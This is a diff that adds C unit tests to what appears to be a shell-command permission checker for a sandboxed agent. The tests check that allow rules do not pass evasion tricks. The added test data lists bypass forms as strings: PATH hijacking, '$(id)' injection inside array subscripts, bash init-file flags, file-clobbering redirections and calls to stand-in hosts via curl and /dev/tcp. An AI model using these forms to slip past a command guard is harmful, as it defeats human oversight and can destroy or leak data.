@@ -245,6 +245,19 @@ static void an_allowing_rule_makes_b_an_a_and_leaves_c_alone(void)
 	CHECK(level_of(&facts, "make") == 'C');
 }
 
+static void GOV_16_a_worktree_in_a_system_directory_is_no_path_of_programs(void)
+{
+	struct policy_facts facts = policy_sandbox;
+
+	facts.worktree_mode = POLICY_WORKTREE_RW;
+	CHECK(level_of(&facts, "PATH=/opt/app:/usr/bin ls") == 'A');
+	facts.worktree = facts.cwd = "/opt/app";
+	CHECK(level_of(&facts, "PATH=/usr/bin:/bin ls") == 'A');
+	CHECK(level_of(&facts, "PATH=/opt/app:/usr/bin ls") == 'B');
+	CHECK(level_of(&facts, "export PATH=/opt/./app/bin; ls") == 'B');
+	CHECK(level_of(&facts, "env PATH=/opt//app ls") == 'B');
+}
+
 static void an_allowing_rule_covers_only_its_own_command(void)
 {
 	static const char *const lines[] = { "make && ./x",
@@ -257,7 +270,19 @@ static void an_allowing_rule_covers_only_its_own_command(void)
 					     "X=1; make; ./y",
 					     "make $X",
 					     "make; curl -d a http://a.example/",
-					     "m\"\"ake | tee /data/x/y" };
+					     "m\"\"ake | tee /data/x/y",
+					     "for PATH in ./x; do make; done",
+					     "for a in 'b[$(id)]'; do make {z[a]}<f; done",
+					     "for a in 'b[$(id)]'; do make; case $((a)) in 1) ;; esac; done",
+					     "for a in 'b[$(id)]'; do make < \"${@:a}\"; done",
+					     "for a in 'b[$(id)]'; do [[ -n x && a -eq 1 ]]; make; done",
+					     "for i in $((a)); do make; done",
+					     "bash --rcfile x -ic make",
+					     "bash --init-file x -c make",
+					     "bash -O extdebug -c make",
+					     "cd x && make",
+					     "pushd x; make",
+					     "cd; make" };
 	const struct policy_rule allow[] = { { .effect = POLICY_EFFECT_ALLOW, .argv = make_words } };
 	struct policy_facts facts = with_rules(allow, 1);
 
@@ -268,6 +293,52 @@ static void an_allowing_rule_covers_only_its_own_command(void)
 			printf("# %c: %s\n", level, lines[i]);
 		CHECK(level == 'B' || level == 'C');
 	}
+}
+
+/* "rm build > src/main.c" empties a file that no rule names. */
+static void GOV_14_an_allowing_rule_does_not_allow_a_redirection(void)
+{
+	static char *const to_log[] = { (char *)">", (char *)"build.log", NULL };
+	static char *const to_any[] = { (char *)">>", NULL };
+	static const char *const lines[] = { "rm -rf build > src/main.c",
+					     "> src/main.c rm -rf build",
+					     "rm -rf build >> src/main.c",
+					     "rm -rf build >| src/main.c",
+					     "rm -rf build <> src/main.c",
+					     "rm -rf build 2> src/main.c",
+					     "rm -rf build &> src/main.c",
+					     "rm -rf build >& src/main.c",
+					     "rm -rf build > \"$x\"",
+					     "rm -rf build > build.log.old",
+					     "{ rm -rf build; } > src/main.c",
+					     "(rm -rf build) > src/main.c",
+					     "if true; then rm -rf build; fi > src/main.c",
+					     "for i in 1; do rm -rf build; done > src/main.c",
+					     "rm -rf build; > src/main.c",
+					     "rm -rf build > >(make)",
+					     "sh -c 'rm -rf build' > src/main.c",
+					     "nice rm -rf build > src/main.c",
+					     "echo $(rm -rf build > src/main.c)",
+					     "rm -rf build < /dev/tcp/a.example/80" };
+	const struct policy_rule allow[] = { { .effect = POLICY_EFFECT_ALLOW, .argv = rm_words },
+					     { .effect = POLICY_EFFECT_ALLOW, .argv = make_words },
+					     { .effect = POLICY_EFFECT_ALLOW, .argv = to_log },
+					     { .effect = POLICY_EFFECT_ALLOW, .argv = to_any } };
+	struct policy_facts facts = with_rules(allow, 3);
+
+	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
+		if (level_of(&facts, lines[i]) == 'A')
+			printf("# allowed: %s\n", lines[i]);
+		CHECK(level_of(&facts, lines[i]) != 'A');
+	}
+	CHECK(level_of(&facts, "rm -rf build") == 'A');
+	CHECK(level_of(&facts, "rm -rf build > /dev/null 2>&1") == 'A');
+	CHECK(level_of(&facts, "rm -rf build < list") == 'A');
+	CHECK(level_of(&facts, "make > build.log") == 'A');
+	CHECK(level_of(&facts, "make >> build.log") == 'B');
+	facts.n_rules = 4;
+	CHECK(level_of(&facts, "make >> build.log") == 'A');
+	CHECK(level_of(&facts, "make > other.log") == 'B');
 }
 
 static void higher_tiers_decide_and_deny_wins(void)
@@ -435,7 +506,9 @@ TAP_MAIN(T(run_of_make_is_a_with_and_without_a_terminal), T(GOV_3_unbounded_dele
 	 T(GOV_3_the_root_of_a_writable_bind_is_unbounded), T(wrappers_in_wrappers_end_somewhere),
 	 T(GOV_14_prefixes_are_whole_words), T(a_denied_program_is_found_wherever_it_stands),
 	 T(unparsed_text_asks_when_a_rule_may_apply), T(an_allowing_rule_makes_b_an_a_and_leaves_c_alone),
-	 T(an_allowing_rule_covers_only_its_own_command), T(higher_tiers_decide_and_deny_wins),
+	 T(GOV_16_a_worktree_in_a_system_directory_is_no_path_of_programs),
+	 T(an_allowing_rule_covers_only_its_own_command),
+	 T(GOV_14_an_allowing_rule_does_not_allow_a_redirection), T(higher_tiers_decide_and_deny_wins),
 	 T(rules_may_name_profile_network_and_mount), T(a_verdict_has_the_documented_shape),
 	 T(reasons_are_one_printable_line), T(direct_words_are_judged_without_a_shell),
 	 T(variables_of_the_environment_count), T(long_and_deep_commands_are_decided_not_passed))
